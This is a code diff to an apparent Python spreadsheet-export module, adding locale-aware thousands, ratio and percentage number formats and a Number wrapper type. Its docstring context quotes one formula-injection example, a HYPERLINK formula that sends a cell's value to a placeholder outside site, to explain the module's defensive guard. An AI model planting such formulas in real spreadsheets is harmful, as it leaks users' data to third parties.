@@ -9,7 +9,9 @@ Rules every export gets by going through this module:
   someone edits the cell (``=HYPERLINK("http://x/?"&A1)`` in a narrative would otherwise send a cell's
   value to another site). ``workbook_bytes`` enforces it for every cell of every sheet before saving, so
   a writer that assigned a string directly is covered too.
-- **Numbers stay numbers** (int, float, Decimal -> float): Excel formats them in the reader's locale.
+- **Numbers stay numbers** (int, float, Decimal -> float) with a format that groups thousands ("#,##0"),
+  so Excel shows them in the reader's locale (8.134 in Vietnamese Excel, 8,134 in English); a ratio or a
+  percentage goes in as ``ratio(56.4)`` and shows one decimal ("56,4 %"), as pages do.
 - **Only what XML can carry**: control characters that .xlsx cannot hold are stripped (line breaks and
   tabs kept; see giaoban.core.text.clean_text), so old stored text cannot make an export fail.
 
@@ -21,6 +23,7 @@ from __future__ import annotations
 
 import io
 from collections.abc import Iterable, Sequence
+from dataclasses import dataclass
 from decimal import Decimal
 from typing import Any
 
@@ -31,9 +34,54 @@ from openpyxl.utils import get_column_letter
 
 from giaoban.core.text import clean_text
 
-__all__ = ["FORMULA_STARTS", "Cell", "append", "cell_value", "new_workbook", "put", "sheet_name", "table_to_xlsx", "workbook_bytes"]
+__all__ = [
+    "DECIMAL_FORMAT",
+    "FORMULA_STARTS",
+    "INTEGER_FORMAT",
+    "PERCENT_FORMAT",
+    "RATIO_FORMAT",
+    "Cell",
+    "Number",
+    "append",
+    "cell_value",
+    "new_workbook",
+    "percent",
+    "put",
+    "ratio",
+    "sheet_name",
+    "table_to_xlsx",
+    "workbook_bytes",
+]
 
-Cell = str | int | float | Decimal | None
+# Excel number formats: thousands grouped; the reader's Excel picks the separators (8.134 / 8,134).
+INTEGER_FORMAT = "#,##0"
+DECIMAL_FORMAT = "#,##0.0###"
+RATIO_FORMAT = "#,##0.0"
+PERCENT_FORMAT = '#,##0.0" %"'  # the cell holds 56.4 (as pages and the API do), shown "56,4 %"
+
+
+@dataclass(frozen=True)
+class Number:
+    """A number with its own Excel format (a ratio to one decimal, a percentage, a rounded estimate)."""
+
+    value: int | float | Decimal | None
+    number_format: str
+
+    def __str__(self) -> str:  # for column widths
+        return "" if self.value is None else str(self.value)
+
+
+def ratio(value: int | float | Decimal | None) -> Number:
+    """A ratio to one decimal (1,3)."""
+    return Number(value, RATIO_FORMAT)
+
+
+def percent(value: int | float | Decimal | None) -> Number:
+    """A percentage already x 100 (56.4), shown "56,4 %"."""
+    return Number(value, PERCENT_FORMAT)
+
+
+Cell = str | int | float | Decimal | Number | None
 
 # What makes a spreadsheet program (or a CSV reader) take text for a formula.
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -60,6 +108,11 @@ def _as_text(cell: XlCell, text: str) -> None:
 def put(ws, row: int, column: int, value: Any = None) -> XlCell:
     """Write `value` into (row, column) of `ws` by the rules above and return the cell."""
     cell = ws.cell(row=row, column=column)
+    if isinstance(value, Number):
+        cell.value = cell_value(value.value)
+        if value.value is not None:
+            cell.number_format = value.number_format
+        return cell
     value = cell_value(value)
     if isinstance(value, str):
         _as_text(cell, value)
@@ -116,8 +169,10 @@ def table_to_xlsx(
         for n, row in enumerate(rows, start=header_row + 1):
             for column, value in enumerate(row, start=1):
                 c = put(ws, n, column, value)
+                if isinstance(value, Number) or c.number_format != "General":
+                    continue
                 if isinstance(c.value, int | float) and not isinstance(c.value, bool):
-                    c.number_format = "#,##0" if float(c.value).is_integer() else "#,##0.0##"
+                    c.number_format = INTEGER_FORMAT if float(c.value).is_integer() else DECIMAL_FORMAT
         ws.freeze_panes = ws.cell(row=header_row + 1, column=1)
         for i, header in enumerate(headers, start=1):
             width = max(
